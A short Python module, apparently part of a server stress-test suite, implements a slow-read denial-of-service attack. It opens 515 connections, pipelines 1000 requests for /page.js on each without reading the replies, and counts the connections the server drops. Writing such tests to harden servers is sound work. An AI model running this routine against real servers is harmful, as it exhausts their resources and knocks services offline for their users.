"""Clients that ask and never read: their answers fill the kernel's buffers, and then those of the server."""

from __future__ import annotations

import time

from attacks.place import Place, Seen, get, send_some

CONNECTIONS, REQUESTS = 515, 1000


def run(place: Place) -> Seen:
    """Send all requests as far as they are taken, and count whom the server has given up."""
    requests = get("/page.js") * REQUESTS
    with place.connections(place.of(CONNECTIONS)) as links:
        left = dict.fromkeys(links, requests)
        while place.left:
            for link, data in list(left.items()):
                sent = send_some(link, data or b"\r\n")  # a connection that was given up shows when one sends
                if sent < 0:
                    del left[link]
                else:
                    left[link] = data[sent:]
            time.sleep(0.1)
        return {"connections": len(links), "given up by the server": len(links) - len(left)}
